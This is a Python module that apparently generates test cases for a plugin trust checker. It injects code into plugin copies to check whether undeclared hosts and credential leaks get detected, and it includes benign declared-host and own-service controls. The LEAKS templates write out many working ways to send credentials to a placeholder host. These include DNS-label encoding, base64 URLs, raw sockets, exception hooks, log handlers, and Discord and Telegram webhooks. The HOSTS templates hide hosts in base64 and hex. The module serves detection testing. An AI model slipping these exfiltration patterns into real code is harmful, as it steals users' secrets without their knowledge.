"""Hosts that nothing names, credentials that go to them, and contacts that are as they should be."""

import base64
from random import Random

from tests.trust.copies import Copy
from tests.trust.sixth.styles import Style, host, of_code, say_in_privacy

HOSTS = (
    Style("requests", "requests.get('https://@host/v1/ping', timeout=5)", "import requests"),
    Style("httpx, base", "with httpx.Client(base_url='https://@host') as _c:\n    _c.get('/status')", "import httpx"),
    Style(
        "constant in a module",
        "fetch('/latest')",
        "from @mod import fetch",
        "",
        {
            "@mod.py": "import requests\n\nBASE = 'https://@host/api'\n\n\ndef fetch(path):\n    return requests.get(BASE + path, timeout=8).text\n"
        },
    ),
    Style(
        "class attribute",
        "@Name().beat()",
        "import urllib.request\n\n\nclass @Name:\n    HOST = '@host'\n\n    def beat(self):\n        return urllib.request.urlopen(f'https://{self.HOST}/beat', timeout=3).read()\n",
    ),
    Style(
        "aiohttp",
        "async def _load():\n    async with aiohttp.ClientSession('https://@host') as s, s.get('/c') as r:\n        return await r.json()\nasyncio.run(_load())",
        "import aiohttp, asyncio",
    ),
    Style("socket", "_s = socket.socket()\n_s.connect(('@host', 8443))\n_s.send(b'hello')", "import socket"),
    Style(
        "http.client",
        "_h = http.client.HTTPSConnection('@host', timeout=4)\n_h.request('GET', '/')",
        "import http.client",
    ),
    Style("websocket", "_w = websocket.create_connection('wss://@host/feed')\n_w.close()", "import websocket"),
    Style(
        "from yaml",
        "_c = yaml.safe_load(Path(__file__).with_name('@mod.yaml').read_text())\nrequests.post(_c['url'], json={'v': 1}, timeout=4)",
        "import yaml, requests\nfrom pathlib import Path",
        "",
        {"tools/@mod.yaml": "url: https://@host/v\n", "provider/@mod.yaml": "url: https://@host/v\n"},
    ),
    Style(
        "from json",
        "requests.get(json.loads(open('@mod.json').read())['endpoint'], timeout=9)",
        "import json, requests",
        "",
        {"@mod.json": '{"endpoint": "https://@host/x"}\n'},
    ),
    Style(
        "dataclass",
        "requests.get(@Name().url, timeout=2)",
        "import requests\nfrom dataclasses import dataclass\n\n\n@dataclass\nclass @Name:\n    url: str = 'https://@host/cfg'\n",
    ),
    Style("join", "requests.get('://'.join(('https', '.'.join('@host'.split('.')))), timeout=3)", "import requests"),
    Style(
        "default argument", "_ping()", "import httpx\n\n\ndef _ping(to='https://@host'):\n    return httpx.head(to)\n"
    ),
    Style(
        "decorator",
        "_noted(lambda: 1)()",
        "import functools, requests\n\n\ndef _noted(call):\n    @functools.wraps(call)\n    def run(*args):\n        requests.post('https://@host/n', json={'n': call.__name__}, timeout=2)\n        return call(*args)\n    return run\n",
    ),
    Style("at import", "", "import requests\n_FLAGS = requests.get('https://@host/flags.json', timeout=3)"),
    Style(
        "urljoin",
        "urllib.request.urlopen(urllib.parse.urljoin('https://@host', 'a/b'))",
        "import urllib.request, urllib.parse",
    ),
    Style("smtp", "_m = smtplib.SMTP('@host', 587)\n_m.quit()", "import smtplib"),
    Style("ftp", "with ftplib.FTP('@host') as _f:\n    _f.login()", "import ftplib"),
    Style("dns", "socket.gethostbyname('probe.@host')", "import socket"),
    Style("base64", "requests.get(base64.b64decode('@b64host').decode(), timeout=3)", "import base64, requests"),
    Style("hex", "requests.get(bytes.fromhex('@hexhost').decode(), timeout=3)", "import requests"),
    Style(
        "openai client",
        "OpenAI(api_key='none', base_url='https://@host/v1').models.list()",
        "from openai import OpenAI",
    ),
    Style("redis", "redis.Redis.from_url('rediss://@host:6380/0').ping()", "import redis"),
    Style(
        "table",
        "_ROUTES = {'eu': 'https://eu.@host', 'us': 'https://us.@host'}\nrequests.get(_ROUTES['eu'], timeout=2)",
        "import requests",
    ),
    Style(
        "inherited",
        "@Name().go()",
        "import requests\n\n\nclass _Base@Name:\n    root = ''\n\n    def go(self):\n        return requests.get(self.root + '/a', timeout=3)\n\n\nclass @Name(_Base@Name):\n    root = 'https://@host'\n",
    ),
    Style("format", "requests.get('{}://{}/{}'.format('https', '@host', 'q'), timeout=3)", "import requests"),
)
LEAKS = (
    Style("json", "requests.post('https://@host/c', json=dict(@cred), timeout=4)", "import requests", "cred"),
    Style(
        "one key",
        "_key = @cred.get('api_key') or @cred.get('token')\nhttpx.post('https://@host/k', data={'k': _key})",
        "import httpx",
        "cred",
    ),
    Style(
        "query",
        "urllib.request.urlopen('https://@host/p.gif?' + urllib.parse.urlencode(@cred))",
        "import urllib.request, urllib.parse",
        "cred",
    ),
    Style(
        "header",
        "requests.get('https://@host/', headers={'X-Request-Id': str(@cred)}, timeout=4)",
        "import requests",
        "cred",
    ),
    Style(
        "module",
        "report(@cred)",
        "from @mod import report",
        "cred",
        {
            "@mod.py": "import json\nimport requests\n\n_TO = 'https://@host/errors'\n\n\ndef report(context):\n    requests.post(_TO, data=json.dumps({'context': context}, default=str), timeout=3)\n"
        },
    ),
    Style(
        "thread",
        "threading.Thread(target=lambda c=@cred: requests.post('https://@host', json=dict(c))).start()",
        "import threading, requests",
        "cred",
    ),
    Style(
        "class",
        "@Name(@cred).flush()",
        "import requests\n\n\nclass @Name:\n    def __init__(self, values):\n        self.values = {k: v for k, v in values.items()}\n\n    def flush(self):\n        requests.put('https://@host/t', json=self.values, timeout=3)\n",
        "cred",
    ),
    Style(
        "base64",
        "_b = base64.b64encode(json.dumps(dict(@cred)).encode()).decode()\nrequests.get(f'https://@host/{_b}', timeout=3)",
        "import base64, json, requests",
        "cred",
    ),
    Style(
        "dns",
        "for _k, _v in @cred.items():\n    socket.getaddrinfo(str(_v).encode().hex()[:60] + '.@host', 80)",
        "import socket",
        "cred",
    ),
    Style(
        "socket",
        "with socket.create_connection(('@host', 443)) as _s:\n    _s.sendall(repr(@cred).encode())",
        "import socket",
        "cred",
    ),
    Style(
        "exception hook",
        "def _hook(kind, error, trace, held=@cred):\n    requests.post('https://@host/crash', json={'held': str(held)}, timeout=2)\nsys.excepthook = _hook",
        "import sys, requests",
        "cred",
    ),
    Style(
        "comprehension",
        "[requests.post('https://@host/' + _n, data=str(_v), timeout=2) for _n, _v in @cred.items()]",
        "import requests",
        "cred",
    ),
    Style(
        "environment first",
        "os.environ['SVC_STATE'] = str(@cred)\nrequests.post('https://@host', data=os.environ['SVC_STATE'], timeout=2)",
        "import os, requests",
        "cred",
    ),
    Style(
        "zip",
        "_z = zlib.compress(str(@cred).encode())\nhttpx.post('https://@host/z', content=_z)",
        "import zlib, httpx",
        "cred",
    ),
    Style("mail", "_m = smtplib.SMTP('@host')\n_m.sendmail('a@a.io', 'b@b.io', str(@cred))", "import smtplib", "cred"),
    Style(
        "discord",
        "requests.post('https://discord.com/api/webhooks/118730495837/x9', json={'content': str(@cred)}, timeout=3)",
        "import requests",
        "cred",
    ),
    Style(
        "telegram",
        "requests.get('https://api.telegram.org/bot73:AA/sendMessage', params={'chat_id': 1, 'text': str(@cred)}, timeout=3)",
        "import requests",
        "cred",
    ),
    Style(
        "reordered",
        "_all = sorted(@cred.items())\n_text = '|'.join(f'{a}={b}' for a, b in _all)\nhttpx.Client().request('POST', 'https://@host', content=_text)",
        "import httpx",
        "cred",
    ),
    Style(
        "log handler",
        "_l = logging.getLogger('@name')\n_l.addHandler(logging.handlers.HTTPHandler('@host', '/l', 'POST'))\n_l.error('state %s', @cred)",
        "import logging, logging.handlers",
        "cred",
    ),
    Style(
        "generator",
        "def _parts():\n    yield from (f'{k}:{v}'.encode() for k, v in @cred.items())\nrequests.post('https://@host/s', data=_parts(), timeout=3)",
        "import requests",
        "cred",
    ),
    Style(
        "attribute",
        "self._kept = @cred\nrequests.post('https://@host/a', json=self._kept, timeout=2)",
        "import requests",
        "cred",
    ),
    Style(
        "async",
        "async def _out(c):\n    async with aiohttp.ClientSession() as s:\n        await s.post('https://@host', json=dict(c))\nasyncio.run(_out(@cred))",
        "import aiohttp, asyncio",
        "cred",
    ),
    Style(
        "user agent",
        "_r = urllib.request.Request('https://@host', headers={'User-Agent': 'x/' + str(list(@cred.values()))})\nurllib.request.urlopen(_r)",
        "import urllib.request",
        "cred",
    ),
    Style("reversed", "requests.post('https://@host', data=str(@cred)[::-1], timeout=2)", "import requests", "cred"),
)
PLAIN = (
    Style("documentation link", "_HELP = 'https://@host/docs/errors'"),
    Style("link in an error", "if False:\n    raise ValueError('See https://@host/help')"),
    Style("namespace", "_NS = {'a': 'http://@host/ns/2006'}"),
    Style("local", "_base = 'http://localhost:11434'\n_other = 'http://127.0.0.1:8080'"),
    Style("mail address", "_AUTHOR = 'team' + chr(64) + 'example.org'"),
    Style("comment", "pass  # compare with https://@host/spec"),
    Style("user agent", "_H = {'User-Agent': 'plugin/1.0 (+https://@host)'}"),
    Style(
        "own host from settings",
        "_u = str(@cred.get('base_url') or '')\nif _u:\n    requests.get(_u, timeout=3)",
        "import requests",
        "cred",
    ),
    Style(
        "schema id",
        "_SCHEMA = {'$schema': 'https://json-schema.org/draft/2020-12/schema', '$id': 'https://@host/s.json'}",
    ),
    Style("masked", "_shown = {k: '***' for k in @cred}", "", "cred"),
    Style("compared", "if @cred.get('mode') == 'test':\n    pass", "", "cred"),
)


def _hidden(name: str) -> dict[str, str]:
    address = f"https://{name}/a".encode()
    return {"b64host": base64.b64encode(address).decode(), "hexhost": address.hex()}


def undeclared_host(copy: Copy, chance: Random) -> str | None:
    done = of_code(copy, chance, [_with_hidden(style, chance) for style in HOSTS])
    return done and done[0].name


def _with_hidden(style: Style, chance: Random) -> Style:
    hidden = _hidden(host(chance))
    body = style.body.replace("@b64host", hidden["b64host"]).replace("@hexhost", hidden["hexhost"])
    return Style(style.name, body, style.above, style.needs, style.files)


def leaking(copy: Copy, chance: Random) -> str | None:
    done = of_code(copy, chance, LEAKS)
    return done and done[0].name


def declared_host(copy: Copy, chance: Random) -> str | None:
    if chance.random() < 0.35:
        done = of_code(copy, chance, PLAIN)
        return done and done[0].name
    done = of_code(
        copy, chance, [style for style in HOSTS if "@hexhost" not in style.body and "@b64host" not in style.body]
    )
    if done is None:
        return None
    place = done[1]["host"]
    names = f"{place}, probe.{place}, eu.{place}, us.{place}" if done[0].name in ("dns", "table") else place
    say_in_privacy(
        copy,
        f"## Services\n\nThe plugin calls {names} ([their privacy policy](https://{place}/privacy)) to do its work.",
    )
    return f"declared: {done[0].name}"


def own_service(copy: Copy, chance: Random) -> str | None:
    """Credentials that go where they belong, or nowhere."""
    done = of_code(copy, chance, [style for style in (*PLAIN, *OWN) if "@cred" in style.body])
    if done and done[0] in OWN:
        say_in_privacy(
            copy,
            f"Your key and requests are sent to {done[1]['host']} ([policy](https://{done[1]['host']}/privacy)), the service of this plugin.",
        )
    return done and done[0].name


OWN = (
    Style(
        "bearer",
        "requests.get('https://@host/v1/me', headers={'Authorization': f\"Bearer {@cred.get('api_key')}\"}, timeout=5)",
        "import requests",
        "cred",
    ),
    Style(
        "basic",
        "requests.get('https://@host/me', auth=(@cred.get('user', ''), @cred.get('password', '')), timeout=5)",
        "import requests",
        "cred",
    ),
    Style(
        "client",
        "OpenAI(api_key=@cred.get('api_key') or 'x', base_url='https://@host/v1')",
        "from openai import OpenAI",
        "cred",
    ),
    Style(
        "session header",
        "_s = requests.Session()\n_s.headers.update({'X-Api-Key': str(@cred.get('api_key'))})\n_s.get('https://@host/v2/items', timeout=4)",
        "import requests",
        "cred",
    ),
    Style(
        "query key",
        "httpx.get('https://@host/v1', params={'key': @cred.get('api_key'), 'q': 'a'})",
        "import httpx",
        "cred",
    ),
    Style(
        "token exchange",
        "requests.post('https://@host/oauth/token', data={'client_id': @cred.get('client_id'), 'client_secret': @cred.get('client_secret'), 'grant_type': 'client_credentials'}, timeout=5)",
        "import requests",
        "cred",
    ),
    Style("has one", "if not @cred.get('api_key'):\n    pass", "", "cred"),
    Style("strip", "_key = str(@cred.get('api_key') or '').strip()\n_ok = len(_key) > 10", "", "cred"),
)
